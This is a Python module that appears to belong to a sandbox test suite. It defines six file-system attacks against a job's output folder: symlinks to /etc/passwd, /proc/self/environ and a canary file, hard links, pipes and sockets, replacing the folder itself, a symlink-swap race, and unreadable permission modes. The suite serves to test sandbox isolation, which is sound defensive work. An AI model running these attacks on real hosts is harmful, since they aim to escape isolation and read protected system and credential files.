"""Results that are not what they seem."""

from evaluation.sandbox.attacks.model import Attack, AttackClass

CLASS = AttackClass(
    name="output_links",
    aim="Have the host, or the supervisor, read a file of the attacker's choice as a result",
    weakening="host folder bound",
    attacks=(
        Attack(
            name="symbolic_links",
            kind="run",
            code=r"""
import os
def f(facts):
    for name, target in (("link", facts["canary"]), ("passwd", "/etc/passwd"),
                         ("environ", "/proc/self/environ"), ("folder", facts["canary_folder"]),
                         ("up", "../../../../.."), ("guest", "/opt/guest/sandbox/values.py")):
        os.symlink(target, f"/job/out/{name}")
    try:
        with open("/job/out/link", "rb") as file:
            return f"ESCAPED {len(file.read())} bytes through the link"
    except OSError as error:
        return f"left links: {error}"
""",
        ),
        Attack(
            name="hard_links",
            kind="run",
            code=r"""
import os
def f(facts):
    said = []
    for n, target in enumerate((facts["canary"], "/opt/guest/sandbox/values.py", "/dev/zero",
                                "/usr/share/zoneinfo/UTC")):
        try:
            os.link(target, f"/job/out/hard{n}")
            if target == facts["canary"]:
                return "ESCAPED a second name of the file"
        except OSError as error:
            said.append(error.strerror)
    return f"refused: {said}"
""",
        ),
        Attack(
            name="pipes_and_sockets",
            kind="run",
            code=r"""
import os, socket
def f(facts):
    os.mkfifo("/job/out/pipe")
    os.mkfifo("/job/out/other", 0o000)
    made = socket.socket(socket.AF_UNIX)
    made.bind("/job/out/socket")
    made.listen()
    return "left a pipe and a socket"
""",
        ),
        Attack(
            name="the_folder_itself",
            kind="run",
            code=r"""
import os, shutil
def f(facts):
    shutil.rmtree("/job/out")
    os.symlink(facts["canary_folder"], "/job/out")
    try:
        return f"ESCAPED lists {os.listdir('/job/out')[:3]}"
    except OSError as error:
        os.unlink("/job/out")
        os.symlink("/opt/guest", "/job/out")
        return f"replaced the folder: {error}"
""",
        ),
        Attack(
            name="swap_while_it_is_read",
            kind="run",
            code=r"""
import os, time
def f(facts):
    with open("/job/out/a", "w") as file:
        file.write("mine")
    for _ in range(2):
        if os.fork() == 0:
            os.setsid()
            until = time.monotonic() + 3
            while time.monotonic() < until:
                try:
                    os.symlink(facts["canary"], "/job/out/b")
                    os.replace("/job/out/b", "/job/out/a")
                    with open("/job/out/b", "w") as file:
                        file.write("mine")
                    os.replace("/job/out/b", "/job/out/a")
                except OSError:
                    pass
            os._exit(0)
    try:
        for _ in range(200):
            with open("/job/out/a", "rb") as file:
                if file.read(4) not in (b"mine", b""):
                    return "ESCAPED read it through the link"
    except OSError as error:
        return f"swapping: {error}"
    return "swapping"
""",
        ),
        Attack(
            name="nobody_may_read_it",
            kind="run",
            code=r"""
import os
def f(facts):
    for name, mode in (("secret", 0o000), ("write", 0o222)):
        with open(f"/job/out/{name}", "w") as file:
            file.write("x")
        os.chmod(f"/job/out/{name}", mode)
    os.mkdir("/job/out/closed", 0o000)
    os.mkdir("/job/closed", 0o000)
    os.chmod("/job/out", 0o000)
    return "left what cannot be read"
""",
        ),
    ),
)
